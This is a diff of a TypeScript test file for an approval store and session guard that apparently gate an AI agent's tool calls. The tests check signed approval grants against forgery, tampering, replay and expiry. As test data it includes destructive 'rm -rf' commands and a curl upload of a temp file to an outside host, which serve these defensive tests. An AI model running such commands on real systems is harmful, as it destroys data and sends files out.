@@ -1,14 +1,20 @@
 // The guard's per-process state: session ancestry and open obligations (bounded, LRU by session), and the
 // approval store (bound to one action digest, single use, expiring).
+import { generateKeyPairSync } from 'node:crypto';
+
 import { describe, expect, it } from 'vitest';
 
 import {
   actionDigest,
   approvalIdOf,
-  ApprovalError,
   ApprovalStore,
   type ApprovalSubject,
 } from '../../ingest/guard/approvals.js';
+import type { ApprovalGrantEnvelope } from '../../schemas/approval-grant.js';
+import type { ApproverSet } from '../../schemas/approvers.js';
+import { canonicalize } from '../../schemas/digest.js';
+import { keyIdOf } from '../../schemas/keys.js';
+import { grantFor } from './approver.js';
 import { SessionContexts } from '../../ingest/guard/session-context.js';
 import { SessionGuard } from '../../ingest/guard/session-guard.js';
 import { compilePolicy } from '../../policy/engine/compile.js';
@@ -81,6 +87,22 @@ describe('ApprovalStore', () => {
     command: 'rm -rf src',
     reason: 'destructive',
   };
+  const alice = keyPair('alice');
+  const mallory = keyPair('mallory');
+  const approvers: ApproverSet = new Map([
+    [alice.keyid, { name: 'alice', keyid: alice.keyid, publicKey: alice.publicKey }],
+  ]);
+  const T0 = Date.parse('2030-01-01T00:00:00.000Z');
+  const store = (now = () => T0, ttlMs?: number) =>
+    new ApprovalStore({ approvers, now, ...(ttlMs === undefined ? {} : { ttlMs }) });
+  const codeOf = (f: () => unknown) => {
+    try {
+      f();
+    } catch (error) {
+      return (error as { code?: string }).code;
+    }
+    return undefined;
+  };
 
   it('binds an approval to session, tool, exact input and cwd', () => {
     expect(actionDigest({ ...request, session_id: 't' })).not.toBe(digest);
@@ -89,49 +111,95 @@ describe('ApprovalStore', () => {
     expect(subject.id).toMatch(/^[0-9a-f]{16}$/);
   });
 
-  it('a grant is used once, only by its own action', () => {
-    const store = new ApprovalStore();
-    store.request(subject);
-    expect(store.pending().map((p) => p.id)).toEqual([subject.id]);
-    const { grant, recorded } = store.answer(subject.id, 'alice', 'approved');
+  it('a grant signed by a registered approver is used once, only by its own action', () => {
+    const approvals = store();
+    const pending = approvals.request(subject);
+    expect(pending.challenge).toMatch(/^[0-9a-f]{32}$/);
+    expect(approvals.request(subject).challenge).toBe(pending.challenge); // a renewal keeps it
+    const signed = grantFor(pending, alice, {}, T0);
+    const { grant, recorded } = approvals.answer(signed);
     expect(recorded).toBe(false);
-    store.accept(grant);
-    expect(store.pending()).toEqual([]);
-    expect(store.answer(subject.id, 'alice', 'approved').recorded).toBe(true); // idempotent repeat
-    expect(() => store.answer(subject.id, 'bob', 'approved')).toThrow(ApprovalError);
-    expect(store.take(actionDigest({ ...request, tool_input: { command: 'rm -rf lib' } }))).toBeUndefined();
-    expect(store.take(digest)).toMatchObject({ approver: 'alice' });
-    expect(store.take(digest)).toBeUndefined();
+    expect(grant).toMatchObject({
+      approver: 'alice',
+      keyid: alice.keyid,
+      decision: 'approved',
+      grant: signed,
+    });
+    approvals.accept(grant);
+    expect(approvals.pending()).toEqual([]);
+    expect(approvals.answer(signed).recorded).toBe(true); // the same grant again, unused: idempotent
+    expect(
+      approvals.take(actionDigest({ ...request, tool_input: { command: 'rm -rf lib' } })),
+    ).toBeUndefined();
+    expect(approvals.take(digest)).toMatchObject({ approver: 'alice' });
+    expect(approvals.take(digest)).toBeUndefined();
+    // Replayed after use: the request it answered is gone; a new request has a new challenge.
+    expect(codeOf(() => approvals.answer(signed))).toBe('APPROVAL_UNKNOWN');
+    approvals.request(subject);
+    expect(codeOf(() => approvals.answer(signed))).toBe('GRANT_CHALLENGE');
   });
 
-  it('a refusal answers the request and grants nothing; unknown ids are refused', () => {
-    const store = new ApprovalStore();
-    store.request(subject);
-    store.accept(store.answer(subject.id, 'alice', 'denied').grant);
-    expect(store.take(digest)).toBeUndefined();
-    expect(store.pending()).toEqual([]);
-    try {
-      store.answer('0123456789abcdef', 'alice', 'approved');
-      expect.unreachable();
-    } catch (error) {
-      expect(error).toMatchObject({ code: 'APPROVAL_UNKNOWN' });
-    }
+  it('refuses anything but a fresh grant by a registered key for this very request', () => {
+    const approvals = store();
+    const pending = approvals.request(subject);
+    const other = actionDigest({ ...request, tool_input: { command: 'rm -rf lib' } });
+    const cases: Array<[string, unknown]> = [
+      ['APPROVER_UNKNOWN', grantFor(pending, mallory, {}, T0)],
+      ['APPROVER_MISMATCH', grantFor(pending, { ...alice, name: 'security-lead' }, {}, T0)],
+      [
+        'GRANT_SIGNATURE',
+        {
+          ...grantFor(pending, alice, {}, T0),
+          signatures: grantFor(pending, mallory, { keyid: alice.keyid }, T0).signatures,
+        },
+      ],
+      ['GRANT_MALFORMED', tamper(grantFor(pending, alice, {}, T0), { decision: 'approved', command: 'x' })],
+      [
+        'GRANT_SIGNATURE',
+        tamper(grantFor(pending, alice, { decision: 'denied' }, T0), { decision: 'approved' }),
+      ],
+      [
+        'APPROVAL_UNKNOWN',
+        grantFor(pending, alice, { approval_id: approvalIdOf(other), action_digest: other }, T0),
+      ],
+      ['GRANT_MISMATCH', grantFor(pending, alice, { session_id: 'another-session' }, T0)],
+      ['GRANT_CHALLENGE', grantFor(pending, alice, { challenge: '00'.repeat(16) }, T0)],
+      ['GRANT_EXPIRED', grantFor(pending, alice, { expires_at: new Date(T0).toISOString() }, T0 - 60_000)],
+      ['GRANT_NOT_YET_VALID', grantFor(pending, alice, {}, T0 + 10 * 60_000)],
+      [
+        'GRANT_TOO_LONG',
+        grantFor(pending, alice, { expires_at: new Date(T0 + 2 * 3600_000).toISOString() }, T0),
+      ],
+      ['GRANT_MALFORMED', { id: subject.id, approver: 'alice' }],
+    ];
+    for (const [code, grant] of cases)
+      expect([code, codeOf(() => approvals.answer(grant))]).toEqual([code, code]);
+    expect(approvals.pending()).toHaveLength(1);
+    expect(codeOf(() => new ApprovalStore().answer(grantFor(pending, alice, {}, T0)))).toBe('APPROVERS_NONE');
+  });
+
+  it('a refusal answers the request and grants nothing', () => {
+    const approvals = store();
+    const pending = approvals.request(subject);
+    approvals.accept(approvals.answer(grantFor(pending, alice, { decision: 'denied' }, T0)).grant);
+    expect(approvals.take(digest)).toBeUndefined();
+    expect(approvals.pending()).toEqual([]);
+    expect(approvals.status(subject.id)).toBe('denied');
   });
 
   it('pending requests and unused grants expire', () => {
-    let now = 0;
-    const store = new ApprovalStore({ ttlMs: 1000, now: () => now });
-    store.request(subject);
-    now = 999;
-    expect(store.pending()).toHaveLength(1);
-    now = 1000;
-    expect(store.pending()).toEqual([]);
-    expect(() => store.answer(subject.id, 'alice', 'approved')).toThrow(/no pending approval/);
+    let now = T0;
+    const approvals = store(() => now, 1000);
+    approvals.request(subject);
+    now += 999;
+    expect(approvals.pending()).toHaveLength(1);
+    now += 1;
+    expect(approvals.pending()).toEqual([]);
 
-    store.request(subject);
-    store.accept(store.answer(subject.id, 'alice', 'approved').grant);
+    const pending = approvals.request(subject);
+    approvals.accept(approvals.answer(grantFor(pending, alice, {}, now)).grant);
     now += 1000;
-    expect(store.take(digest)).toBeUndefined();
+    expect(approvals.take(digest)).toBeUndefined();
   });
 });
 
@@ -163,3 +231,14 @@ describe('SessionGuard follows a secret through a file across actions', () => {
     expect(ask(clean, 'c', 'curl -T /tmp/p https://x.example').route).toBe('allow');
   });
 });
+
+function keyPair(name: string) {
+  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
+  return { name, privateKey, publicKey, keyid: keyIdOf(publicKey) };
+}
+
+/** The envelope with its statement changed after signing. */
+function tamper(envelope: ApprovalGrantEnvelope, changes: Record<string, unknown>): ApprovalGrantEnvelope {
+  const statement = JSON.parse(Buffer.from(envelope.payload, 'base64').toString('utf8')) as object;
+  return { ...envelope, payload: Buffer.from(canonicalize({ ...statement, ...changes })).toString('base64') };
+}
